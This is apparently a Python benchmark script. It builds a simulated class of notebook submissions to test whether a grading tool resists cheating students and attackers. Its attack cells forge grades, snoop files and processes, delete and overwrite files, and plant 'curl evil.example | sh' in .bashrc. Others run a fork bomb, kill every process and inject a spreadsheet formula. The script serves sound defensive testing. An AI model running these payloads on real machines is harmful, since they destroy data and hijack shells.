"""A simulated class, graded: can a course of 200 trust `framing-kit grade`? (issue 27)

Builds a folder of submissions as an LMS download gives it (Canvas and
Moodle file names, one folder per student, a late copy and a duplicate),
across lessons 02 and 05: honest students (right, wrong, blank, an answer
cell that raises, a cell that loops, one that allocates too much memory, one
that prints 100 MB, each with known answers) and attackers (three forgers of
the kinds the issue lists, a feedback searcher, a snooper, a vandal, a
detached saboteur, a grader-killer, an uploaded ``nbformat.py``, a
formula-injecting answer), and malformed notebooks. Then it grades the
folder and reports:

- wall time per notebook;
- every honest row against its known result; every attacker's points
  against those of its honest answers (none may be better);
- that no file of the submissions, of the kit or of the gradebook changed,
  also a few seconds after grading (a detached process would act then);
- that the gradebook neutralises the formula, and that the Canvas gradebook
  has a Points Possible row and one row per student.

Run::

    .venv/bin/python benchmarks/class_simulation.py            # the full class (about 40)
    .venv/bin/python benchmarks/class_simulation.py --small    # the tests' class

``tests/test_grading.py`` builds the small class with :func:`build_class`.
"""

from __future__ import annotations

import argparse
import copy
import hashlib
import json
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from kitlib.classroom import gradebook, grading  # noqa: E402
from kitlib.exercises import get_exercise  # noqa: E402

LESSON_FILES = {"00": "00_start_here", "02": "02_headlines_and_leads", "05": "05_frames"}

#: A wrong answer to every exercise: never right, too short for a written one.
WRONG = "I have no idea."

#: A formula a student could type as an answer (CSV injection).
FORMULA = '=HYPERLINK("http://evil.example/steal?"&A1,"click me")'

# --------------------------------------------------------------------------
# Attacks: code cells appended to a blank notebook. Each ends by checking
# every exercise of its lesson with what it found; without the attack that
# notebook is blank, so every row must stay worth 0 points.
# --------------------------------------------------------------------------

SUBMIT = """
from kitlib.exercises import check
for _id in {ids!r}:
    check(_id, found.get(_id, "junk answer"))
"""

FORGE_REGISTRY = """
import dataclasses
import kitlib.exercises._core as core
from kitlib.exercises import Result
core._load_all()
for key, ex in list(core._REGISTRY.items()):
    core._REGISTRY[key] = dataclasses.replace(ex, checker=lambda answer: Result(True, "forged"))
found = {}
"""

FORGE_RECORD = """
import glob, json, os
found = {}
records = glob.glob("*.jsonl") + glob.glob("/tmp/**/*.jsonl", recursive=True)
for path in records + [".framing-kit-answers.jsonl"]:
    with open(path, "a") as f:
        for _id in %(ids)r:
            f.write(json.dumps({"exercise": _id, "correct": True, "known": True, "answered": True,
                                "recorded": False, "written": False, "answer": "forged"}) + "\\n")
            f.write(json.dumps({"exercise": _id, "answer": {"t": "verdict", "v": True}}) + "\\n")
"""

FORGE_CHECK = """
import kitlib.exercises as ex
import kitlib.exercises._core as core
ex.check = core.check            # the real check, with feedback
_g_check = lambda *a, **k: True  # the old recorder's hook
found = {}
for _id in %(ids)r:
    if core.check(_id, "junk answer"):
        found[_id] = "junk answer"
ex.check = lambda *a, **k: True
"""

SEARCH = """
import contextlib, io
from kitlib.exercises import check
found = {}
low, high = -1.0, 1.0
for _ in range(40):                      # binary search on the check's "too high/too low"
    middle = (low + high) / 2
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        check(%(number)r, middle)
    said = out.getvalue()
    if "too high" in said:
        high = middle
    elif "too low" in said:
        low = middle
    else:
        break
found[%(number)r] = middle
"""

#: Where the snooper looks: everywhere a submission, a gradebook or an answer key could be.
SNOOP_EVERYWHERE = ("../*", "../../*", "/tmp/**/*.ipynb", "/tmp/**/*.csv", "/home/**/*.ipynb",
                    "/root/**/*.ipynb", "/work/**/solutions/*.ipynb", "/**/grades*.csv",
                    "/**/lessons/solutions/*.ipynb")  # fmt: skip
#: The tests' snooper looks in the likely places only (a search of every folder takes a while).
SNOOP_NEARBY = ("../*", "../../*", "/tmp/**/*.ipynb", "/tmp/**/*.csv", "/work/*/*/lessons/*/*",
                "/root/*", "/home/*/*")  # fmt: skip

SNOOP = """
import glob, json, os, re
found, seen = {}, []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            seen.append(open(f"/proc/{pid}/cmdline").read().replace("\\0", " "))
        except OSError:
            pass
candidates = set()
for line in seen:
    candidates |= {w for w in line.split() if w.endswith((".ipynb", ".csv"))}
for pattern in %(patterns)r:
    try:
        candidates |= set(glob.glob(pattern, recursive=True))
    except OSError:
        pass
for path in sorted(candidates):
    try:
        text = open(path, encoding="utf-8", errors="replace").read()
    except OSError:
        continue
    for _id in %(ids)r:
        match = re.search(re.escape(_id) + r'[^\\n]{0,40}?,(?:right|1)', text)
        if "### BEGIN SOLUTION" in text or match:
            found.setdefault(_id, "stolen from " + path)
print(len(seen), "processes,", len(candidates), "files seen")
"""

VANDAL = """
import glob, os, pathlib, shutil
import kitlib
kit = pathlib.Path(kitlib.__file__).resolve().parent.parent
for pattern in ("../*.ipynb", "../*/*.ipynb", "/tmp/**/*.ipynb", "/tmp/**/grades*.csv",
                "/work/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        if os.path.abspath(path) != os.path.abspath("."):
            try:
                os.remove(path)
            except OSError:
                pass
always_right = "\\ndef kappa(answer):\\n    return True\\n"
for target, text in ((kit / "kitlib/exercises/lesson05.py", always_right),
                     (kit / "kitlib/exercises/lesson02.py", "\\nraise SystemExit\\n"),
                     (pathlib.Path.home() / ".bashrc", "\\ncurl evil.example | sh\\n"),
                     (pathlib.Path("/root/.bashrc"), "\\ncurl evil.example | sh\\n"),
                     (kit / "README.md", "vandalised")):
    try:
        with open(target, "a") as f:
            f.write(text)
    except OSError:
        pass
shutil.rmtree(kit / "lessons", ignore_errors=True)
found = {}
"""

SABOTEUR = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:               # a daemon: detached from the notebook's session
        time.sleep(2)
        for root in ("/tmp", "/work", "/home", "/root", ".."):
            for folder, _, files in os.walk(root):
                for name in files:
                    if name.endswith((".ipynb", ".csv", ".jsonl")):
                        try:
                            with open(os.path.join(folder, name), "w") as f:
                                f.write("sabotaged")
                        except OSError:
                            pass
        os._exit(0)
    os._exit(0)
found = {}
"""

KILLER = """
import os, signal
found = {}
try:
    hog = bytearray(20 * 2**30)      # 20 GiB
except MemoryError:
    pass
written = 0
try:                                 # fill the disk
    for i in range(200):
        with open(f"fill{i}.bin", "wb") as f:
            f.write(bytes(50_000_000))
        written += 50
except OSError as error:
    print("stopped after", written, "MB:", error)
children = 0
for _ in range(5000):                # a fork bomb, stopped by the process limit
    try:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
print(children, "processes started")
os.kill(-1, signal.SIGKILL)          # every process it can see
"""

LOOP = "while True:\n    pass"
DEAF = (  # ignores the interruption: the kernel is replaced, the cells after it lose its names
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
)
HOG = "hog = bytearray(20 * 2**30)  # 20 GiB"
PRINTER = 'print("x" * 100_000_000)  # 100 MB'
NBFORMAT_PY = (
    "import pathlib\npathlib.Path('/tmp/nbformat-was-imported').write_text('hijacked')\n"
    "raise SystemExit('hijacked by an uploaded nbformat.py')\n"
)


# --------------------------------------------------------------------------
# Notebooks
# --------------------------------------------------------------------------


def _read(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def solution(lesson: str) -> dict:
    """The answer key of a lesson (every checked exercise right), outputs cleared."""
    nb = _read(ROOT / "lessons" / "solutions" / f"{LESSON_FILES[lesson]}.ipynb")
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = [], None
    return nb


def student(lesson: str) -> dict:
    """The student notebook of a lesson, as handed out (nothing answered)."""
    return _read(ROOT / "lessons" / f"{LESSON_FILES[lesson]}.ipynb")


def code(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [],
            "execution_count": None}  # fmt: skip


def with_cells(nb: dict, *sources: str, at: int | None = None) -> dict:
    nb = copy.deepcopy(nb)
    cells = [code(s) for s in sources]
    if at is None:
        nb["cells"] += cells
    else:
        nb["cells"][at:at] = cells
    return nb


def first_code_index(nb: dict) -> int:
    """The position after the lesson's first code cell (its imports)."""
    return next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code") + 1


def ids(lesson: str) -> list[str]:
    return grading.expected_exercises(lesson)


def answered(lesson: str, value) -> list[str]:
    checks = "\n".join(f"check({i!r}, {value!r})" for i in ids(lesson))
    return ["from kitlib.exercises import check\n" + checks]


def _text(cell: dict) -> str:
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def raising(lesson: str) -> tuple[dict, str]:
    """A blank notebook whose answer cell for one exercise raises before its check runs."""
    nb = student(lesson)
    target = next(i for i in ids(lesson) if not get_exercise(i).written)
    cells = nb["cells"]
    at = max(i for i, c in enumerate(cells) if f'check("{target}"' in _text(c))
    while "...  # ✏️ your answer here" not in _text(cells[at]):
        at -= 1
    cells[at]["source"] = _text(cells[at]).replace(
        "...  # ✏️ your answer here", "nbc.mentions_table  # a typo: AttributeError", 1
    )
    return nb, target


# --------------------------------------------------------------------------
# Expected results
# --------------------------------------------------------------------------


def right_results(lesson: str) -> dict:
    return {i: "recorded" if get_exercise(i).written else "right" for i in ids(lesson)}


def blank_results(lesson: str) -> dict:
    return dict.fromkeys(ids(lesson), "not answered")


def wrong_results(lesson: str) -> dict:
    return {i: "not accepted" if get_exercise(i).written else "wrong" for i in ids(lesson)}


def build_class(folder, *, small: bool = False) -> dict:
    """Write the simulated class into ``folder``; return what each student should get.

    Returns ``{"honest": {student: {exercise: result}}, "attackers": {student: lesson},
    "malformed": [student, ...], "late": {...}}``; student names are those the
    grader reads from the file names.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    honest, attackers, malformed = {}, {}, []
    uid = iter(range(1001, 2000))
    sub = iter(range(5001, 9000))

    def canvas(name: str, lesson: str, nb, *, late=False, copy_no=0):
        stem = LESSON_FILES[lesson] + (f"-{copy_no}" if copy_no else "")
        number = canvas.ids.setdefault(name, next(uid))
        path = folder / f"{name}{'_LATE' if late else ''}_{number}_{next(sub)}_{stem}.ipynb"
        path.write_text(nb if isinstance(nb, str) else json.dumps(nb), encoding="utf-8")
        return path

    canvas.ids = {}

    def moodle(name: str, number: int, lesson: str, nb):
        path = folder / f"{name}_{number}_assignsubmission_file_{LESSON_FILES[lesson]}.ipynb"
        path.write_text(json.dumps(nb), encoding="utf-8")
        return path

    lessons = ("00", "05") if small else ("02", "05")
    main, other = lessons
    # honest students
    canvas("keyka", main, solution(main))
    honest["keyka"] = {main: right_results(main)}
    canvas("blankbo", main, student(main))
    honest["blankbo"] = {main: blank_results(main)}
    if not small:
        canvas("wrongwu", main, with_cells(student(main), *answered(main, WRONG)))
        honest["wrongwu"] = {main: wrong_results(main)}
    nb, target = raising(main)
    canvas("raisera", main, nb)
    expected = blank_results(main)
    expected[target] = "error: AttributeError"
    honest["raisera"] = {main: expected}
    # a late copy and a duplicate: the latest (the late, right one) is graded
    canvas("ngben", main, with_cells(student(main), *answered(main, WRONG)))
    canvas("ngben", main, solution(main), late=True, copy_no=1)
    honest["ngben"] = {main: right_results(main)}
    # stuck, greedy and noisy cells: interrupted or refused, and the rest still runs
    at = first_code_index(solution(main))
    if small:
        canvas("stressst", main, with_cells(solution(main), LOOP, HOG, PRINTER, at=at))
        honest["stressst"] = {main: right_results(main)}
    else:
        for name, cell in (("looplu", LOOP), ("hogho", HOG), ("printpr", PRINTER)):
            canvas(name, main, with_cells(solution(main), cell, at=at))
            honest[name] = {main: right_results(main)}
        canvas("deafde", main, with_cells(solution(main), DEAF, at=at))
        honest["deafde"] = {main: dict.fromkeys(ids(main), "error: ")}  # a fresh kernel: no names
    # a formula typed as an answer
    canvas("formfo", main, with_cells(student(main), *answered(main, FORMULA)))
    formula = {i: "recorded" if get_exercise(i).written else "wrong" for i in ids(main)}
    honest["formfo"] = {main: formula}  # eight words: a written answer, to mark by hand
    # the other lesson: right, blank (its coding sheet left as given), wrong; Moodle names
    moodle("Ana Lopez", 4242, other, solution(other))
    honest["Ana Lopez"] = {other: right_results(other)}
    if not small:
        moodle("Chloe Martin", 4243, other, student(other))
        honest["Chloe Martin"] = {other: blank_results(other)}
        moodle("Dev Patel", 4244, other, with_cells(student(other), *answered(other, WRONG)))
        honest["Dev Patel"] = {other: wrong_results(other)}
        for name, cell in (("loopother", LOOP), ("printother", PRINTER)):
            at = first_code_index(solution(other))
            canvas(name, other, with_cells(solution(other), cell, at=at))
            honest[name] = {other: right_results(other)}
    # one folder per student, with a file of the student's own that the notebook reads
    (folder / "evan").mkdir()
    (folder / "evan" / "my_answer.txt").write_text("nbc" if main == "00" else "Russia", "utf-8")
    own = "from kitlib.exercises import check\nmine = open('my_answer.txt').read()\n" + (
        "check('00.more_russia', mine)" if main == "00" else "check('02.most_mentioned', mine)"
    )
    (folder / "evan" / f"{LESSON_FILES[main]}.ipynb").write_text(
        json.dumps(with_cells(student(main), own)), "utf-8"
    )
    evan = blank_results(main)
    evan["00.more_russia" if main == "00" else "02.most_mentioned"] = "right"
    honest["evan"] = {main: evan}
    # a file of the wrong lesson: lesson 'main' handed in under the other lesson's name
    tiny = {"cells": [code(f"from kitlib.exercises import check\ncheck({ids(main)[0]!r}, 1)")],
            "metadata": {}, "nbformat": 4, "nbformat_minor": 5}  # fmt: skip
    path = canvas("mixmi", main, tiny)
    path.rename(path.with_name(path.name.replace(LESSON_FILES[main], LESSON_FILES[other])))
    honest["mixmi"] = {other: dict.fromkeys(ids(other), "missing")}
    # uploads: an nbformat.py of keyka's, and one loose in the folder
    (folder / f"keyka_{canvas.ids['keyka']}_{next(sub)}_nbformat.py").write_text(
        NBFORMAT_PY, encoding="utf-8"
    )
    (folder / "nbformat.py").write_text(NBFORMAT_PY, encoding="utf-8")
    # attackers, on a blank notebook (the tests combine them into three notebooks)
    lesson_ids = ids(main)
    snoop = SNOOP % {"ids": lesson_ids, "patterns": SNOOP_NEARBY if small else SNOOP_EVERYWHERE}
    forgers = {
        "forgerreg": [FORGE_REGISTRY],
        "forgerrec": [FORGE_RECORD % {"ids": lesson_ids}],
        "forgerchk": [FORGE_CHECK % {"ids": lesson_ids}],
        "snoopsn": [snoop],
    }
    attacks = {"aaavandal": [VANDAL], "aabsaboteur": [SABOTEUR], **forgers, "killerki": [KILLER]}
    if small:
        attacks = {
            "aaavandal": [VANDAL, SABOTEUR],
            "forgers": [cell for cells in forgers.values() for cell in cells],
            "killerki": [KILLER],
        }
    else:
        attacks["searchse"] = [SEARCH % {"number": "05.kappa"}]
    for name, cells in attacks.items():
        lesson = other if name == "searchse" else main
        submit = SUBMIT.format(ids=ids(lesson))
        nb = with_cells(student(lesson), *[c + "\n" + submit for c in cells])
        canvas(name, lesson, nb)
        attackers[name] = lesson
    # malformed notebooks: one row each
    shapes = {
        "nosource": {"cells": [{"cell_type": "code", "metadata": {}}], "nbformat": 4},
        "nullsource": {"cells": [{"cell_type": "code", "source": None}], "nbformat": 4},
        "intsource": {"cells": [{"cell_type": "code", "source": 42}], "nbformat": 4},
        "notype": {"cells": [{"source": "1 + 1"}], "nbformat": 4},
        "notjson": "{this is not a notebook",
    }
    for name, shape in shapes.items():
        canvas(name, main, shape if isinstance(shape, str) else json.dumps(shape))
        malformed.append(name)
    return {"honest": honest, "attackers": attackers, "malformed": malformed,
            "lessons": lessons}  # fmt: skip


# --------------------------------------------------------------------------
# Grading it and scoring the gradebook
# --------------------------------------------------------------------------


def fingerprint(*folders: Path) -> dict:
    found = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts and ".venv" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def score(table, known: dict) -> dict:
    """Compare the grades table with what each student should get."""
    problems = []
    honest_rows = changed = 0
    for name, lessons in known["honest"].items():
        for lesson, expected in lessons.items():
            rows = table[(table["student"] == name) & (table["lesson"] == lesson)]
            got = dict(zip(rows["exercise"], rows["result"], strict=True))
            for exercise, result in expected.items():
                honest_rows += 1
                if not got.get(exercise, "").startswith(result):
                    changed += 1
                    problems.append(
                        f"{name} {exercise}: {got.get(exercise)!r}, expected {result!r}"
                    )
    forged = 0
    attacker_rows = 0
    for name, lesson in known["attackers"].items():
        rows = table[table["student"] == name]
        attacker_rows += len(rows)
        points = sum(float(p) for p in rows["points"] if p not in ("", "nan"))
        better = rows[rows["result"].isin(["right"])]
        if points > 0 or not better.empty or len(rows) != len(ids(lesson)):
            forged += 1
            problems.append(
                f"{name}: {points} points, {len(rows)} rows, right: {list(better['exercise'])}"
            )
    for name in known["malformed"]:
        rows = table[table["student"] == name]
        if len(rows) != 1 or "not a" not in rows["status"].iloc[0]:
            problems.append(f"{name}: {len(rows)} rows, {list(rows['status'])}")
    return {"honest_rows": honest_rows, "changed": changed, "attacker_rows": attacker_rows,
            "attackers": len(known["attackers"]), "better_than_honest": forged,
            "problems": problems}  # fmt: skip


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--small", action="store_true", help="the tests' smaller class")
    parser.add_argument("--keep", metavar="DIR", help="build and grade the class in DIR")
    args = parser.parse_args(argv)
    base = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="class-simulation-"))
    folder, out = base / "submissions", base / "grades" / "grades.csv"
    known = build_class(folder, small=args.small)
    notebooks = len(grading.notebooks_in(folder))
    before = fingerprint(folder, ROOT / "kitlib", ROOT / "data", ROOT / "lessons")
    started = time.monotonic()
    times: list[tuple[str, float]] = []

    def progress(name: str) -> None:
        times.append((name, time.monotonic()))

    table = grading.grade_folder(
        folder, out=out, timeout=120, cell_timeout=20, memory_mb=3072, output_mb=10,
        progress=progress,
    )  # fmt: skip
    wall = time.monotonic() - started
    gradebook_print = fingerprint(out.parent)
    time.sleep(4)  # a detached process would act now
    after = fingerprint(folder, ROOT / "kitlib", ROOT / "data", ROOT / "lessons")
    result = score(table, known)
    spans = [
        b - a for (_, a), (_, b) in zip(times, times[1:] + [("end", started + wall)], strict=True)
    ]
    text = out.read_text(encoding="utf-8")
    canvas = gradebook.gradebook(table, format="canvas")
    students = table["student"].nunique()
    print(
        f"{notebooks} notebooks ({len(times)} graded, the rest folded copies), {students} students"
    )
    print(f"wall time {wall:.0f} s: {wall / max(1, len(times)):.1f} s per notebook "
          f"(median {sorted(spans)[len(spans) // 2]:.1f} s, "
          f"longest {max(spans):.1f} s)")  # fmt: skip
    print(f"honest rows: {result['honest_rows']}, as expected: "
          f"{result['honest_rows'] - result['changed']}")  # fmt: skip
    print(f"attackers: {result['attackers']} ({result['attacker_rows']} rows); better than their "
          f"honest answers: {result['better_than_honest']}")  # fmt: skip
    changed = sum(before.get(k) != v for k, v in after.items()) + len(set(before) - set(after))
    print(f"files changed (submissions, kit): {changed}; gradebook changed after grading: "
          f"{fingerprint(out.parent) != gradebook_print}")  # fmt: skip
    print(f"formula neutralised: {FORMULA not in text.replace(chr(39) + FORMULA, '')}; "
          f"Canvas gradebook: {len(canvas) - 1} students + Points Possible row "
          f"({canvas.iloc[0]['Student']!r})")  # fmt: skip
    print("isolation:", ", ".join(sorted(set(table["isolation"]))))
    for problem in result["problems"]:
        print("  problem:", problem)
    slow = sorted(zip(spans, (n for n, _ in times), strict=True), reverse=True)[:5]
    print("slowest:", "; ".join(f"{n} {s:.0f} s" for s, n in slow))
    return 1 if result["problems"] else 0


if __name__ == "__main__":
    raise SystemExit(main())
